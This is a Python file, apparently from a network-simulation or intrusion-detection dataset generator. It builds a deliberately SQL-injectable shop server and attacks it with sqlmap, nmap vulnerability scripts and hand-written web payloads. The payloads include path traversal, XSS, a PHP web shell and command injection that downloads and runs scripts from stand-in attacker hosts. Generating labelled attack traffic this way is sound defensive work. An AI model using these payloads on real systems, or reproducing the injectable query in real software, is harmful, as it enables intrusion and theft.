# SPDX-License-Identifier: BSD-3-Clause
"""Attacks on a web server, in the requests: sqlmap, nmap's scripts, and requests as attackers write them by hand."""

import random
import time
import urllib.parse

import network

SITE = '''
import html, http.server, sqlite3, sys, urllib.parse

class Shop(http.server.BaseHTTPRequestHandler):
    """A shop whose search can be injected with SQL, as the first ones could."""
    protocol_version = 'HTTP/1.1'
    server_version = 'shop/1.0'

    def do_GET(self):
        path, _, query = self.path.partition('?')
        values = urllib.parse.parse_qs(query)
        status, text = 200, 'a page of the shop ' * 20
        if path == '/item':
            try:
                database = sqlite3.connect(':memory:')
                database.execute('create table items (id integer, name text)')
                database.executemany('insert into items values (?, ?)', [(n, f'item {n}') for n in range(20)])
                rows = database.execute(f"select name from items where id = {values.get('id', ['0'])[0]}").fetchall()
                text = ''.join(f'<p>{html.escape(str(row[0]))}</p>' for row in rows) or 'none'
            except sqlite3.Error as error:
                status, text = 500, f'error: {error}'
        elif not path.startswith(('/page', '/search', '/api', '/static', '/index')) and path != '/':
            status, text = 404, 'not found'
        body = f'<html><body>{text}</body></html>'.encode()
        self.send_response(status)
        self.send_header('Content-Type', 'text/html')
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_HEAD = do_GET

    def log_message(self, *arguments):
        pass

http.server.ThreadingHTTPServer(('0.0.0.0', 80), Shop).serve_forever()
'''

BY_HAND = (
    (('inclusion', '/page?file=../../../../etc/passwd'), ('inclusion', '/page?file=..%2f..%2f..%2fetc%2fshadow'),
     ('script', '/search?q=<script>alert(document.cookie)</script>'), ('script', '/search?q="><img src=x onerror=alert(1)>'),
     ('command', '/api/ping?host=127.0.0.1;cat /etc/passwd'), ('command', '/api/ping?host=|wget http://203.0.113.66/x.sh -O- | sh'),
     ('sql', "/item?id=1' or '1'='1"), ('sql', '/item?id=1 union select username,password from users--'),
     ('remote file', '/page?file=http://203.0.113.66/shell.txt?'), ('php', '/index?page=php://input'),
     ('files', '/.git/config'), ('files', '/wp-config.php.bak'), ('files', '/.env')),
    (('inclusion', '/page?tpl=....//....//....//windows/win.ini'), ('inclusion', '/static/..%252f..%252f..%252fetc/passwd'),
     ('script', '/search?q=javascript:alert(String.fromCharCode(88,83,83))'), ('script', '/search?q=<svg/onload=prompt(1)>'),
     ('command', '/api/lookup?name=`id`'), ('command', '/api/lookup?name=$(curl http://198.51.100.66/a|bash)'),
     ('sql', "/item?id=5' and sleep(5)#"), ('sql', '/item?id=-1 UNION ALL SELECT NULL,concat(user(),0x3a,version())-- -'),
     ('remote file', '/page?tpl=ftp://198.51.100.66/c99.txt'), ('php', '/index?a=<?php system($_GET[c]); ?>'),
     ('files', '/.htpasswd'), ('files', '/backup.sql'), ('files', '/.svn/entries')),
)

ORDINARY = ("/search?q=o'reilly books", '/search?q=select a present for dad', '/search?q=rock & roll', '/search?q=union street 12', '/page?id=17',
            '/search?q=c++ vs c#', '/api/items?sort=price&order=desc&limit=50', '/api/items?fields=id,name,price&filter=price<100',
            '/static/app.js?v=1.2.3', '/search?q=drop shipping table lamp', '/page?return=/page?id=3', '/index?utm_source=mail&utm_campaign=spring',
            '/api/session?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2ln', '/search?q=100% cotton (large) - "new"', '/search?q=caf%C3%A9 k%C3%BCche')
AGENTS = ('Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
          'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
          'check_http/v2.3.3 (monitoring-plugins 2.3.3)', 'python-requests/2.31.0')


def quoted(path):
    """What a browser makes of a path: spaces and the like are encoded."""
    return urllib.parse.quote(path, safe="/?&=%:;,.()'+!*-_~$@")


def browse(stage, address):
    """Visitors of the shop, some of whom ask for things that look odd."""
    rng = random.Random(f'{stage.half} visitors')
    for number in range(stage.pick(110, 140)):
        network.attempt(f'visitor{rng.randrange(3)}', 'curl', '-s', '-o', '/dev/null', '-A', rng.choice(AGENTS), '-e', 'http://shop.example/index',
                        f'http://{address}' + quoted(rng.choice(ORDINARY) if number % 2 else f'/page?id={rng.randrange(900)}'))
        time.sleep(rng.uniform(0, 1))


def web(stage, path):
    """Visitors of a shop; attackers inject SQL (sqlmap), look for known faults (nmap's scripts) and try what they know by hand."""
    net, pick = stage.net, stage.pick
    net.add_host('shop', 80, 'web server of a shop')
    address = net.address(80)
    stage.outsiders('visitor', 3, pick('198.51.100.', '192.0.2.'), '2001:db8:f00b::')
    attackers = stage.outsiders('attacker', 3, pick('203.0.113.', '198.51.100.'))
    net.serve('shop', '/usr/bin/python3', stage.write('site.py', SITE))
    stage.begin(path)
    stage.beside(browse, stage, address)
    time.sleep(5)
    more = {'ports': [80]}
    stage.attack('attacker0', ('sqlmap', '-u', f'http://{address}/item?id=1', '--batch', '--flush-session', '--output-dir', net.directory,
                               *pick(('--technique', 'BU'), ('--technique', 'U', '--random-agent', '--banner'))),
                 'web-attack', 'SQL injection', 6, attackers[0], address, **more)
    stage.attack('attacker1', ('nmap', '-n', '-Pn', '-p', '80', '--script', pick('http-passwd,http-shellshock,http-git,http-config-backup', 'http-sql-injection,http-phpmyadmin-dir-traversal,http-vuln-cve2017-5638'), address),
                 'web-attack', 'known faults', 6, attackers[1], address, **more)
    script = '; sleep 0.7; '.join(f"curl -g -s -o /dev/null --path-as-is -A '{AGENTS[number % 3]}' -- {shell(address, request)}"
                                  for number, (_, request) in enumerate(pick(*BY_HAND)))
    stage.attack('attacker2', ('bash', '-c', script), 'web-attack', 'by hand', 6, attackers[2], address, tool='curl', statuses=(0, 3), url=address + pick(*BY_HAND)[0][1],
                 **more)


def shell(address, request):
    """The URL as one word of a shell; only spaces are encoded, as attackers leave the rest."""
    url = f'http://{address}{request}'.replace(' ', '%20')
    return "'" + url.replace("'", "'\\''") + "'"
